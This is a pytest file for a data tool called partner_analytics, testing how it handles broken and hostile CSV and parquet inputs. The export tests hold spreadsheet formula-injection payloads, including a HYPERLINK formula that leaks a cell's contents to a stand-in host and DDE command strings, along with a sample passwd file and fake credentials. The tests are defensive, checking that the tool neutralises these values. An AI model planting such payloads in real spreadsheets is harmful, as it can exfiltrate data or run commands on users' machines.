"""Hostile and broken inputs, one case per test: what a user sees, and that nothing is lost.

Every file-level case is run through the command line (exit status 1, one line on stderr starting
`error:` that names the file, the key and what was expected; `--debug` adds the traceback). Every
row-level case checks that the valid rows are all kept and the rejected rows all listed, by their
exact row numbers (the header is row 1). The data is written by the tests themselves.
"""

from __future__ import annotations

import datetime as dt
import json
import os
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import polars as pl
import pytest
import xlsxwriter
import yaml

import partner_analytics as pa
from partner_analytics import cli
from partner_analytics.cli import main
from partner_analytics.core.schema import TABLES
from partner_analytics.core.spreadsheet import formula_safe
from partner_analytics.io import lineage, validation
from partner_analytics.io.readers import read_table
from partner_analytics.io.validation import validate_table

from .conftest import CONTACT_HEADER, CONTACTS_CSV, contract, write_engagement

PARIS = ZoneInfo("Europe/Paris")
VALID_IDS = ["c1", "c2", "c3"]  # rows 2-4 of CONTACTS_CSV; the rows a case adds start at row 5


def _csv(*rows: str, header: str = CONTACT_HEADER) -> str:
    return "\n".join([header, *rows]) + "\n"


def _load(tmp_path: Path, files: dict[str, str | bytes], contract_data: dict | None = None) -> pa.Engagement:
    return pa.load(write_engagement(tmp_path / "eng", files, contract_data))


def _with_rows(tmp_path: Path, *rows: str, contract_data: dict | None = None) -> tuple[list[str], pl.DataFrame]:
    """Load CONTACTS_CSV plus `rows`; the ids kept and the rejected rows (sorted by row)."""
    eng = _load(tmp_path, {"contacts.csv": CONTACTS_CSV + "".join(r + "\n" for r in rows)}, contract_data)
    return sorted(eng.contacts.collect()["contact_id"].to_list()), eng.rejected.collect().sort("row")


def _cli_error(folder: Path, capsys: pytest.CaptureFixture[str]) -> str:
    """The one line `partner-analytics check` prints for a broken engagement (checked: no traceback unless --debug)."""
    assert main(["check", "--engagement", str(folder)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: ") and err.count("\n") == 1, err
    assert "Traceback" not in err
    assert main(["--debug", "check", "--engagement", str(folder)]) == 1
    assert "Traceback" in capsys.readouterr().err
    return err.strip()


def _broken(tmp_path: Path, files: dict[str, str | bytes], capsys, contract_data: dict | None = None) -> str:
    return _cli_error(write_engagement(tmp_path / "eng", files, contract_data), capsys)


def _reasons(rejected: pl.DataFrame) -> dict[int, str]:
    return dict(zip(rejected["row"].to_list(), rejected["reason"].to_list(), strict=True))


# --- the file as a whole -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content", [b"", b"  \n\n \r\n", b"\xef\xbb\xbf\n"], ids=["zero_bytes", "blank_lines", "bom_only"]
)
def test_empty_file(tmp_path: Path, capsys, content: bytes) -> None:
    err = _broken(tmp_path, {"contacts.csv": content}, capsys)
    assert err == f"error: {tmp_path / 'eng' / 'contacts.csv'}: the file is empty (expected a header line and rows)"


@pytest.mark.parametrize(
    "content", [CONTACT_HEADER + "\n", CONTACT_HEADER + "\n\n   \n,,,\n"], ids=["header_only", "header_and_blank_rows"]
)
def test_required_table_without_data_rows(tmp_path: Path, capsys, content: str) -> None:
    err = _broken(tmp_path, {"contacts.csv": content}, capsys)
    assert err == (
        f"error: {tmp_path / 'eng' / 'contacts.csv'}: no rows: the file holds a header and no data row "
        "(expected at least one row of contacts, the table the others are measured against)"
    )


def test_required_parquet_table_without_rows(tmp_path: Path, capsys) -> None:
    folder = write_engagement(tmp_path / "eng", {})
    _parquet_contacts().head(0).write_parquet(folder / "contacts.parquet")
    err = _cli_error(folder, capsys)
    assert err.startswith(f"error: {folder / 'contacts.parquet'}: no rows: the file holds a header and no data row")


def test_optional_table_with_a_header_only_is_an_empty_table(tmp_path: Path, capsys) -> None:
    header = "action_id,partner_id,committee,raised_on,owner_party,title"
    eng = _load(tmp_path, {"contacts.csv": CONTACTS_CSV, "actions.csv": header + "\n"})
    assert eng.tables["actions"].collect().height == 0 and eng.rejected.collect().height == 0
    assert main(["check", "--engagement", str(eng.path)]) == 0
    capsys.readouterr()


def test_first_line_empty(tmp_path: Path, capsys) -> None:
    err = _broken(tmp_path, {"contacts.csv": "\n" + CONTACTS_CSV}, capsys)
    assert err.endswith("contacts.csv: the first line is empty (expected the header on line 1)")


def test_utf8_byte_order_mark_is_skipped(tmp_path: Path) -> None:
    eng = _load(tmp_path, {"contacts.csv": b"\xef\xbb\xbf" + CONTACTS_CSV.encode()})
    assert sorted(eng.contacts.collect()["contact_id"].to_list()) == VALID_IDS
    assert "contact_id" in eng.present["contacts"] and eng.warnings == ()


def test_cp1252_bytes_read_as_utf8(tmp_path: Path, capsys) -> None:
    text = CONTACTS_CSV + "c4,northcall,voice,2026-09-01 09:00:00,true,1,1,Zoé,\n"
    err = _broken(tmp_path, {"contacts.csv": text.encode("cp1252")}, capsys)
    # 'é' is byte 0xE9 in cp1252, an invalid start of a UTF-8 sequence, on line 5.
    offset = text.encode("cp1252").index(b"\xe9")
    assert f"contacts.csv: not UTF-8 text (line 5, byte {offset})" in err
    assert "set `encoding: cp1252` for this table under `sources:`" in err


def test_utf8_bytes_declared_cp1252_read_as_mojibake(tmp_path: Path) -> None:
    """The user's choice is obeyed: é (UTF-8 C3 A9) read as cp1252 is the two characters Ã©."""
    text = CONTACTS_CSV + "c4,northcall,voice,2026-09-01 09:00:00,true,1,1,Zoé,\n"
    eng = _load(
        tmp_path, {"contacts.csv": text.encode("utf-8")}, contract(sources={"contacts": {"encoding": "cp1252"}})
    )
    df = eng.contacts.collect().sort("contact_id")
    assert df["customer_id"].to_list() == ["cust1", "cust2", "cust1", "ZoÃ©"]
    assert eng.rejected.collect().height == 0


def test_utf8_header_declared_cp1252(tmp_path: Path, capsys) -> None:
    header = CONTACT_HEADER.replace("arrived_at", "Date arrivée")
    c = contract(sources={"contacts": {"encoding": "cp1252", "columns": {"arrived_at": "Date arrivée"}}})
    err = _broken(
        tmp_path,
        {"contacts.csv": _csv("c1,northcall,voice,2026-09-01 09:00:00,true,1,1,,", header=header).encode()},
        capsys,
        c,
    )
    assert (
        "contacts.csv: column 'Date arrivée' (mapped to arrived_at under sources.contacts.columns) is not in the header"
        in err
    )
    assert "Date arrivÃ©e" in err and "looks like UTF-8 read as cp1252: remove `encoding` under sources" in err


def test_utf8_bom_declared_cp1252(tmp_path: Path, capsys) -> None:
    c = contract(sources={"contacts": {"encoding": "cp1252"}})
    err = _broken(tmp_path, {"contacts.csv": b"\xef\xbb\xbf" + CONTACTS_CSV.encode()}, capsys, c)
    assert "contacts.csv: the file starts with a UTF-8 byte-order mark, but `encoding: cp1252` is set" in err


def test_byte_undefined_in_cp1252(tmp_path: Path, capsys) -> None:
    c = contract(sources={"contacts": {"encoding": "cp1252"}})
    data = (CONTACTS_CSV + "c4,northcall,voice,2026-09-01 09:00:00,true,1,1,X,\n").encode().replace(b",X,", b",\x81,")
    err = _broken(tmp_path, {"contacts.csv": data}, capsys, c)
    assert "contacts.csv: byte 0x81 on line 5 is not cp1252 text: check the `encoding` under sources" in err


def test_utf16_file(tmp_path: Path, capsys) -> None:
    err = _broken(tmp_path, {"contacts.csv": CONTACTS_CSV.encode("utf-16")}, capsys)
    assert "contacts.csv: UTF-16 or binary content, not CSV text: save the file as UTF-8" in err


def test_semicolon_file_read_with_the_default_comma(tmp_path: Path, capsys) -> None:
    err = _broken(tmp_path, {"contacts.csv": CONTACTS_CSV.replace(",", ";")}, capsys)
    assert "contacts.csv: the header is a single column holding ';'" in err and "c1;northcall" not in err
    assert "the separator looks like ';', not ','" in err and "set `separator: ';'` under sources.contacts" in err


def test_comma_file_declared_semicolon(tmp_path: Path, capsys) -> None:
    err = _broken(tmp_path, {"contacts.csv": CONTACTS_CSV}, capsys, contract(sources={"contacts": {"separator": ";"}}))
    assert "the separator looks like ',', not ';'" in err


def test_semicolon_file_with_quoted_semicolons(tmp_path: Path) -> None:
    text = _csv(
        'c1;northcall;voice;2026-09-01 09:00:00;true;12;300;"Dupont; Jean";5',
        "c2;northcall;voice;2026-09-01 09:05:00;false;3;;cust2;",
        header=CONTACT_HEADER.replace(",", ";"),
    )
    eng = _load(tmp_path, {"contacts.csv": text}, contract(sources={"contacts": {"separator": ";"}}))
    assert eng.contacts.collect().sort("contact_id")["customer_id"].to_list() == ["Dupont; Jean", "cust2"]


# --- quoting and row numbers ---------------------------------------------------------------------


def test_quoted_separator_inside_a_value_is_one_value(tmp_path: Path) -> None:
    kept, rejected = _with_rows(tmp_path, 'c4,northcall,voice,2026-09-01 10:00:00,true,1,1,"Dupont, Jean",')
    assert kept == [*VALID_IDS, "c4"] and rejected.height == 0


def test_quoted_line_break_is_one_row_and_row_numbers_count_records(tmp_path: Path) -> None:
    kept, rejected = _with_rows(
        tmp_path,
        'c4,northcall,voice,2026-09-01 10:00:00,true,1,1,"two\nlines",',  # row 5, lines 5-6
        "c5,acme,voice,2026-09-01 10:00:00,true,1,1,,",  # row 6, line 7
    )
    assert kept == [*VALID_IDS, "c4"]
    assert rejected["row"].to_list() == [6], "a record spanning two lines is one row, as a spreadsheet shows it"


def test_unquoted_decimal_comma_gives_a_row_too_wide(tmp_path: Path) -> None:
    kept, rejected = _with_rows(
        tmp_path,
        "c4,northcall,voice,2026-09-01 10:00:00,true,2,5,300,cust4,",  # wait 2,5 unquoted: every value shifts right
        "c5,northcall,voice,2026-09-01 10:00:00,true,2.5,300,cust5,",
    )
    assert kept == [*VALID_IDS, "c5"]
    got = rejected.row(0, named=True)
    assert (got["row"], got["column"], got["value"]) == (5, None, "")
    assert got["reason"].startswith(
        "1 value(s) beyond the header's last column: a separator inside a value that is not quoted (a decimal comma?)"
    )
    assert got["reason"].endswith("(also csat: cannot read 'cust4' as a whole number)")
    record = json.loads(got["record"])
    assert (record["wait_s"], record["handle_s"], record["customer_id"]) == ("2", "5", "300")
    assert record["(extra values)"] == [""], "even an empty value beyond the header marks the row as shifted"


def test_separator_closing_every_line_is_not_a_value(tmp_path: Path) -> None:
    text = CONTACTS_CSV.replace("\n", ",\n").replace(CONTACT_HEADER + ",", CONTACT_HEADER)
    eng = _load(tmp_path, {"contacts.csv": text})
    assert sorted(eng.contacts.collect()["contact_id"].to_list()) == VALID_IDS
    assert eng.rejected.collect().height == 0 and eng.warnings == ()


def test_row_with_values_beyond_the_header_keeps_them_in_the_record(tmp_path: Path) -> None:
    kept, rejected = _with_rows(tmp_path, "c4,northcall,voice,2026-09-01 10:00:00,true,1,1,cust4,4,extra1,extra2")
    assert kept == VALID_IDS
    got = rejected.row(0, named=True)
    assert (got["row"], got["column"], got["value"]) == (5, None, "extra1 | extra2")
    assert got["reason"].startswith("2 value(s) beyond the header's last column")
    assert json.loads(got["record"])["(extra values)"] == ["extra1", "extra2"]


def test_short_row_reads_missing_trailing_values_as_empty(tmp_path: Path) -> None:
    kept, rejected = _with_rows(
        tmp_path,
        "c4,northcall,voice,2026-09-01 10:00:00,true,1",  # optional handle_s..csat absent: kept
        "c5,northcall,voice",  # required values absent: rejected
    )
    assert kept == [*VALID_IDS, "c4"]
    assert rejected.select("row", "column", "reason").row(0) == (
        6,
        "arrived_at",
        "missing required value (also answered: missing required value; wait_s: missing required value)",
    )


@pytest.mark.parametrize(
    ("row", "message"),
    [
        (
            'c4,northcall,voice,"2026-09-01 10:00:00,true,1,1,,',
            'line 5: a quote (") opens a value that is never closed',
        ),
        (
            'c4,north"call,voice,2026-09-01 10:00:00,true,1,1,,',
            'line 5: a quote (") opens a value that is never closed',
        ),
        ('c4,"north"call,voice,2026-09-01 10:00:00,true,1,1,,', "line 5: text after a closing quote"),
    ],
    ids=["unclosed_quote", "stray_quote_inside_a_value", "text_after_a_closing_quote"],
)
def test_broken_quotes(tmp_path: Path, capsys, row: str, message: str) -> None:
    err = _broken(
        tmp_path, {"contacts.csv": CONTACTS_CSV + row + "\nc5,northcall,voice,2026-09-01 10:00:00,true,1,1,,\n"}, capsys
    )
    assert f"contacts.csv: {message}" in err


def test_doubled_quotes_inside_values_are_literal(tmp_path: Path) -> None:
    kept, rejected = _with_rows(
        tmp_path,
        'c4,northcall,voice,2026-09-01 10:00:00,true,1,1,"12"" screen",',
        'c5,northcall,voice,2026-09-01 10:00:00,true,1,1,12"" screen,',
    )
    assert kept == [*VALID_IDS, "c4", "c5"] and rejected.height == 0


# --- what a message may quote of a file ----------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n",
            "contact_id: required column 'contact_id' of contacts is missing (the first line names none of the "
            "columns of contacts, so it is not shown; map another header to it under sources.contacts.columns); "
            "the first line must be the header",
        ),
        (
            "user,password,token\nroot,hunter2,abc123\n",
            "contact_id: required column 'contact_id' of contacts is missing (the first line names none of the "
            "columns of contacts, so it is not shown; map another header to it under sources.contacts.columns); "
            "the first line must be the header",
        ),
        (
            "API_KEY=hunter2;region=eu\n",
            "the header is a single column holding ';': the separator looks like ';', not ',' "
            "(set `separator: ';'` under sources.contacts in contract.yaml)",
        ),
    ],
    ids=["passwd", "credentials_csv", "env_file"],
)
def test_a_file_that_is_not_the_table_is_not_quoted(tmp_path: Path, capsys, content: str, message: str) -> None:
    err = _broken(tmp_path, {"contacts.csv": content}, capsys)
    assert err == f"error: {tmp_path / 'eng' / 'contacts.csv'}: {message}"
    assert not {"root", "hunter2", "daemon", "API_KEY"} & set(err.replace(":", " ").replace(",", " ").split())


def test_a_header_is_quoted_shortened_and_escaped(tmp_path: Path, capsys) -> None:
    """A header that parsed as one (it names contact_id) is quoted: 12 names at most, 30 characters each,
    a line break or escape character written as \\n, \\x1b."""
    long = "note " + "x" * 40
    header = "contact_id,partner_id,channel,arrived_at,answered,\x1b[31mred,handle_s," + ",".join(
        [f'"{long}\nnext"'] + [f"extra{i}" for i in range(8)]
    )
    err = _broken(tmp_path, {"contacts.csv": header + "\nc1,northcall,voice,2026-09-01 09:00:00,true,1,1\n"}, capsys)
    shortened = ("note " + "x" * 24 + "…").replace("…", "\u2026")
    assert err == (
        f"error: {tmp_path / 'eng' / 'contacts.csv'}: wait_s: required column 'wait_s' of contacts is missing "
        "(found: contact_id, partner_id, channel, arrived_at, answered, \\x1b[31mred, handle_s, "
        f"{shortened}, extra0, extra1, extra2, extra3, … (4 more); "
        "map another header to it under sources.contacts.columns)"
    )
    assert "\x1b" not in err and "next" not in err


def test_text_after_a_closing_quote_names_the_line_not_its_text(tmp_path: Path, capsys) -> None:
    row = 'c4,northcall,voice,2026-09-01 10:00:00,true,1,1,"s3cr3t"tail,'
    err = _broken(tmp_path, {"contacts.csv": CONTACTS_CSV + row + "\n"}, capsys)
    assert err == (
        f"error: {tmp_path / 'eng' / 'contacts.csv'}: line 5: text after a closing quote: "
        'quote the whole value and double the quotes inside it ("12"" screen")'
    )


def test_a_file_that_is_not_parquet_is_not_quoted(tmp_path: Path, capsys) -> None:
    err = _broken(tmp_path, {"contacts.parquet": "password=hunter2\n" * 20}, capsys)
    assert err.startswith(f"error: {tmp_path / 'eng' / 'contacts.parquet'}: cannot read the parquet file: ")
    assert "hunter2" not in err


def test_a_contract_value_is_quoted_shortened(tmp_path: Path, capsys) -> None:
    err = _contract_error(tmp_path, capsys, contract(currency="E" * 200))
    assert err == "currency: String should match pattern '^[A-Z]{3}$', got '" + "E" * 59 + "…'"


# --- console output -----------------------------------------------------------------------------


def _check_output(folder: Path, capsys, monkeypatch: pytest.MonkeyPatch, *args: str) -> str:
    """What `partner-analytics check` prints on a wide terminal (no cell wrapped), exit status 0."""
    monkeypatch.setattr(cli._console, "width", 400)
    assert main(["check", "--engagement", str(folder), *args]) == 0
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err
    return captured.out


@pytest.mark.parametrize("value", ["[/x]", "[bold]", "[link=http://evil.example]x[/link]", "\\[b]"])
def test_rejected_values_are_printed_as_they_are(tmp_path: Path, capsys, monkeypatch, value: str) -> None:
    csv_value = value.replace("\\", "\\")
    folder = write_engagement(
        tmp_path / "eng", {"contacts.csv": CONTACTS_CSV + f"c4,northcall,{csv_value},2026-09-01 10:00:00,true,1,1,,\n"}
    )
    out = _check_output(folder, capsys, monkeypatch, "--rejected-out", str(tmp_path / "rejected.csv"))
    assert f"| 5   | channel | {value}" in out.replace("│", "|").replace("┃", "|")
    assert f"unknown channel '{value}'" in out
    rejected = pl.read_csv(tmp_path / "rejected.csv")
    assert rejected["row"].to_list() == [5] and rejected["value"].to_list() == [value]


def test_names_holding_brackets_are_printed_as_they_are(tmp_path: Path, capsys, monkeypatch) -> None:
    c = contract(client="[bold]Acme[/bold] [x]")
    c["partners"][1]["name"] = "[x] SouthDesk [/]"
    folder = write_engagement(tmp_path / "eng", {"contacts.csv": CONTACTS_CSV}, c)
    out = _check_output(folder, capsys, monkeypatch)
    assert out.startswith(f"[bold]Acme[/bold] [x] — engagement {folder}\n")
    assert "[x] SouthDesk [/]" in out


def test_warnings_holding_brackets_are_printed_as_they_are(tmp_path: Path, capsys, monkeypatch) -> None:
    header = CONTACT_HEADER + ",[red]agent,[/]"
    folder = write_engagement(
        tmp_path / "eng",
        {"contacts.csv": _csv("c1,northcall,voice,2026-09-01 09:00:00,true,1,1,,,Ann,x", header=header)},
    )
    out = _check_output(folder, capsys, monkeypatch)
    assert f"warning: {folder / 'contacts.csv'}: columns not in the data contract were left out: [red]agent, [/]" in out


# --- spreadsheet export ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.example/?leak="&A1;"open")', "=1+1", "+cmd|' /C calc'!A0", "http://evil.example/x"],
    ids=["hyperlink", "sum", "dde", "url"],
)
def test_excel_export_writes_text_from_the_inputs_as_text(tmp_path: Path, capsys, value: str) -> None:
    quoted = '"' + value.replace('"', '""') + '"'
    folder = write_engagement(
        tmp_path / "eng", {"contacts.csv": CONTACTS_CSV + f"c4,northcall,{quoted},2026-09-01 10:00:00,true,1,1,,\n"}
    )
    assert main(["tables", "--engagement", str(folder), "--out", str(tmp_path / "out"), "--format", "xlsx"]) == 0
    capsys.readouterr()
    sheet = openpyxl.load_workbook(tmp_path / "out" / "tables.xlsx")["rejected"]
    header = [c.value for c in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert sheet.max_row == 2 and row["row"].value == 5 and row["column"].value == "channel"
    assert (row["value"].value, row["value"].data_type, row["value"].hyperlink) == (value, "s", None)
    assert row["reason"].data_type == "s" and row["reason"].value.startswith(f"unknown channel '{value}'")
    formulas = [
        c.coordinate
        for ws in openpyxl.load_workbook(tmp_path / "out" / "tables.xlsx")
        for r in ws.iter_rows()
        for c in r
        if c.data_type == "f" or c.hyperlink is not None
    ]
    assert formulas == []


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?leak="&A1;"open")', '\'=HYPERLINK("http://evil.example/?leak="&A1;"open")'),
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1,1)", "'@SUM(1,1)"),
        ("-12.50", "-12.50"),  # a plain number, not a formula: as read
        ("http://evil.example/x", "http://evil.example/x"),
    ],
    ids=["hyperlink", "sum", "dde", "minus", "at", "negative", "url"],
)
def test_csv_exports_write_text_that_starts_like_a_formula_as_text(
    tmp_path: Path, capsys, monkeypatch, value: str, written: str
) -> None:
    """The tables export and --rejected-out: the rejected value and the reason quoting it (text columns)."""
    quoted = '"' + value.replace('"', '""') + '"'
    folder = write_engagement(
        tmp_path / "eng", {"contacts.csv": CONTACTS_CSV + f"c4,northcall,{quoted},2026-09-01 10:00:00,true,1,1,,\n"}
    )
    assert main(["tables", "--engagement", str(folder), "--out", str(tmp_path / "out"), "--format", "csv"]) == 0
    _check_output(folder, capsys, monkeypatch, "--rejected-out", str(tmp_path / "rejected.csv"))
    for path in (tmp_path / "out" / "rejected.csv", tmp_path / "rejected.csv"):
        rejected = pl.read_csv(path, infer_schema=False)
        assert rejected["row"].to_list() == ["5"] and rejected["value"].to_list() == [written]
        assert rejected["reason"].item().startswith(f"unknown channel '{value}'"), "the reason starts with a word"


def test_csv_export_leaves_numbers_as_numbers(tmp_path: Path) -> None:
    """A negative amount (integer cents) is written -12.50 and a negative float as is: only text is protected."""
    tables = {
        "statement": pl.DataFrame({"partner_id": ["=evil", "northcall"], "net": [-1250, 72420200]}),
        "results": pl.DataFrame({"kpi": ["-asa"], "value": [-0.5]}),
    }
    pa.io.export_tables(tables, tmp_path, "csv", {})
    assert (tmp_path / "statement.csv").read_text() == "partner_id,net\n'=evil,-12.50\nnorthcall,724202.00\n"
    assert (tmp_path / "results.csv").read_text() == "kpi,value\n'-asa,-0.5\n"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("@x", "'@x"),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),  # a space is a spreadsheet operator
        ("+1,234.5", "+1,234.5"),  # a plain number
        ("+1e5", "+1e5"),
        ("-.5", "-.5"),
        ("-", "'-"),
        ("a=1", "a=1"),
        (" =1", " =1"),  # a leading space: a spreadsheet reads it as text
        (None, None),
    ],
)
def test_formula_safe_text(text: str | None, safe: str | None) -> None:
    frame = pl.DataFrame({"text": [text], "number": [-3]}, schema={"text": pl.String, "number": pl.Int64})
    assert formula_safe(frame).rows() == [(safe, -3)]


def test_formula_safe_covers_categorical_text() -> None:
    frame = pl.DataFrame({"c": ["=1", "ok"]}, schema={"c": pl.Categorical})
    assert formula_safe(frame)["c"].to_list() == ["'=1", "ok"]


# --- what used to end in a traceback ------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "where"),
    [
        ("client: " + "[" * 5000 + "]" * 5000 + "\n", "line 1, column 40"),
        ("client: x\npartners: " + "{a: " * 3000 + "1" + "}" * 3000 + "\n", "line 2, column 135"),
        (
            "client: x\n" + "".join("  " * i + f"k{i}:\n" for i in range(40)) + "  " * 40 + "v: 1\n",
            "line 34, column 65",
        ),
    ],
    ids=["flow_lists", "flow_mappings", "indented_mappings"],
)
def test_contract_nested_too_deeply(tmp_path: Path, capsys, text: str, where: str) -> None:
    """The top mapping is level 1: level 33 is the 32nd bracket (column 9 + 31 × 1 or 11 + 31 × 4, from 0),
    or the mapping under k31 (line 34, indented 2 × 32)."""
    err = _contract_error(tmp_path, capsys, text)
    assert err == (
        f"{where}: nested more than 32 levels deep (a contract has a few levels: check the brackets and the indentation)"
    )


@pytest.mark.parametrize(
    ("change", "key", "value"),
    [
        (lambda p: p["pricing"].update(monthly_fee="1e30"), "pricing.monthly_fee", "1E+30"),
        (
            lambda p: p["pricing"].update(per_handled_contact={"voice": "-2e15"}),
            "pricing.per_handled_contact.voice",
            "-2E+15",
        ),
        (lambda p: p.update(pool_pct="1e13"), "pool_pct", "1E+13"),
    ],
    ids=["monthly_fee", "price", "pool_pct"],
)
def test_contract_amount_out_of_range(tmp_path: Path, capsys, change, key: str, value: str) -> None:
    c = contract()
    change(c["partners"][1])
    err = _contract_error(tmp_path, capsys, c)
    assert err == f"partners[1] (southdesk).{key}: {value} is out of range (expected at most 1e+12 in absolute value)"


def _damaged_parquet(path: Path, frame: pl.DataFrame) -> None:
    """`frame` written uncompressed, then the bytes of its long texts overwritten: the footer is sound,
    a data page is not."""
    frame.write_parquet(path, compression="uncompressed")
    data = bytearray(path.read_bytes())
    at = data.index(b"x" * 5000)
    data[at : at + 5000] = b"\xff" * 5000
    path.write_bytes(bytes(data))


@pytest.mark.parametrize("command", ["check", "tables"])
def test_parquet_with_damaged_data_pages_is_named(tmp_path: Path, capsys, command: str) -> None:
    folder = write_engagement(tmp_path / "eng", {})
    _damaged_parquet(folder / "contacts.parquet", _parquet_contacts(customer_id=["x" * 5000] * 3))
    pl.DataFrame(
        {
            "partner_id": ["northcall"],
            "channel": ["voice"],
            "interval_start": [dt.datetime(2026, 9, 1, 9)],
            "interval_minutes": [30],
            "agents_logged_in": [3.0],
        }
    ).write_parquet(folder / "staffing.parquet")
    assert (
        main([command, "--engagement", str(folder), "--out", str(tmp_path / "t")][: 3 if command == "check" else 5])
        == 1
    )
    err = capsys.readouterr().err
    assert err == (
        f"error: {folder / 'contacts.parquet'}: cannot read the parquet file: parquet: File out of specification: "
        "String data contained invalid UTF-8 (its data is damaged: export it again)\n"
    )
    assert not (tmp_path / "t").exists()


def test_optional_parquet_with_damaged_data_pages_is_named(tmp_path: Path, capsys) -> None:
    folder = write_engagement(tmp_path / "eng", {"contacts.csv": CONTACTS_CSV})
    _damaged_parquet(
        folder / "staffing.parquet",
        pl.DataFrame(
            {
                "partner_id": ["northcall"],
                "channel": ["voice"],
                "interval_start": [dt.datetime(2026, 9, 1, 9)],
                "interval_minutes": [30],
                "agents_logged_in": [3.0],
                "queue": ["x" * 5000],
            }
        ),
    )
    err = _cli_error(folder, capsys)
    assert err.startswith(f"error: {folder / 'staffing.parquet'}: cannot read the parquet file: ")


@pytest.mark.parametrize(
    "blank", ["   ", "\t", " , ,\t, ", '"  "'], ids=["spaces", "tab", "separated_spaces", "quoted"]
)
def test_a_line_of_spaces_is_no_row(tmp_path: Path, blank: str) -> None:
    kept, rejected = _with_rows(
        tmp_path,
        blank,
        "c4,northcall,voice,2026-09-01 10:00:00,true,1,1,,",
        "c5,acme,voice,2026-09-01 10:00:00,true,1,1,,",
    )
    assert kept == [*VALID_IDS, "c4"]
    assert rejected["row"].to_list() == [7], "the blank line is row 5, counted but skipped"


# --- the data-quality gate ----------------------------------------------------------------------

FORECASTS_HEADER = "partner_id,channel,month,forecast_contacts,issued_on"


def _check(folder: Path, capsys, monkeypatch: pytest.MonkeyPatch, *args: str) -> tuple[int, str, str]:
    """`check`'s exit status, output (on a wide terminal) and error output."""
    monkeypatch.setattr(cli._console, "width", 1000)
    status = main(["check", "--engagement", str(folder), *args])
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def test_a_table_rejected_for_day_first_dates_fails_the_check_with_the_fix(tmp_path: Path, capsys, monkeypatch) -> None:
    rows = [f"northcall,voice,01/{m:02d}/2026,{1000 + m},{20 + m % 5}/06/2026" for m in range(1, 13)]
    folder = write_engagement(
        tmp_path / "eng", {"contacts.csv": CONTACTS_CSV, "forecasts.csv": "\n".join([FORECASTS_HEADER, *rows]) + "\n"}
    )
    status, out, err = _check(folder, capsys, monkeypatch)
    cause = (
        "12 for month: cannot read '01/01/2026' as a month YYYY-MM or YYYY-MM-DD; dates look day-first (21/06/2026): "
        "set `date_format: '%d/%m/%Y'` under sources.forecasts in contract.yaml"
    )
    assert status == 1
    assert f"diagnosis: {folder / 'forecasts.csv'}: 12 of 12 rows rejected, {cause}\n" in out
    assert err == (
        f"error: {folder / 'forecasts.csv'}: 12 of 12 rows rejected (100%), more than the 50% allowed "
        f"(--max-rejected-share); {cause}\n"
    )
    # The fix, applied, loads every row: 12 forecasts, none rejected.
    write_engagement(folder, {}, contract(sources={"forecasts": {"date_format": "%d/%m/%Y"}}))
    assert _check(folder, capsys, monkeypatch)[::2] == (0, "")
    assert pa.load(folder).tables["forecasts"].collect().height == 12


def test_the_rejected_share_allowed_is_chosen(tmp_path: Path, capsys, monkeypatch) -> None:
    """2 of 3 rows rejected (67 %): above 50 % by default, allowed with --max-rejected-share 0.7."""
    rows = [
        "northcall,voice,2026-01,1000,2025-11-01",
        "northcall,voice,2026/02,1000,2025-11-01",
        "x,voice,2026-03,1,2025-11-01",
    ]
    folder = write_engagement(
        tmp_path / "eng", {"contacts.csv": CONTACTS_CSV, "forecasts.csv": "\n".join([FORECASTS_HEADER, *rows]) + "\n"}
    )
    status, out, err = _check(folder, capsys, monkeypatch)
    assert status == 1 and err.startswith(
        f"error: {folder / 'forecasts.csv'}: 2 of 3 rows rejected (67%), more than the 50% allowed"
    )
    assert "diagnosis" not in out, "no reason rejects half of the rows"
    assert _check(folder, capsys, monkeypatch, "--max-rejected-share", "0.7")[::2] == (0, "")


def test_contacts_without_a_valid_row_fail_the_check_whatever_the_share_allowed(
    tmp_path: Path, capsys, monkeypatch
) -> None:
    text = CONTACTS_CSV.replace("northcall", "nordcall").replace("southdesk", "sudesk")
    folder = write_engagement(tmp_path / "eng", {"contacts.csv": text})
    status, _, err = _check(folder, capsys, monkeypatch, "--max-rejected-share", "1")
    assert status == 1
    assert err == (
        f"error: {folder / 'contacts.csv'}: 3 of 3 rows rejected (100%), no valid row (the contacts table is "
        "required); 3 for partner_id: unknown partner 'nordcall' (did you mean 'northcall'?)\n"
    )


@pytest.mark.parametrize(
    ("when", "fix"),
    [
        (
            "08/31/2026 10:00:00",
            "dates look month-first (08/31/2026 10:00:00): set `datetime_format: '%m/%d/%Y %H:%M:%S'`",
        ),
        ("31.08.2026 10:00", "dates look day-first (31.08.2026 10:00): set `datetime_format: '%d.%m.%Y %H:%M'`"),
        (
            "01/08/2026 10:00",
            "dates are written 01/08/2026 10:00, day or month first: set `datetime_format: '%d/%m/%Y %H:%M'` "
            "(or '%m/%d/%Y %H:%M')",
        ),
    ],
    ids=["month_first", "day_first_dots", "ambiguous"],
)
def test_datetime_format_diagnosed(tmp_path: Path, capsys, monkeypatch, when: str, fix: str) -> None:
    rows = [f"c{i},northcall,voice,{when},true,1,1,," for i in range(4)]
    folder = write_engagement(tmp_path / "eng", {"contacts.csv": _csv(*rows)})
    status, out, err = _check(folder, capsys, monkeypatch)
    assert status == 1 and err.count("\n") == 1
    assert err.endswith(f"{fix} under sources.contacts in contract.yaml\n")
    assert f"diagnosis: {folder / 'contacts.csv'}: 4 of 4 rows rejected, 4 for arrived_at: cannot read '{when}'" in out


def test_decimal_comma_diagnosed(tmp_path: Path, capsys, monkeypatch) -> None:
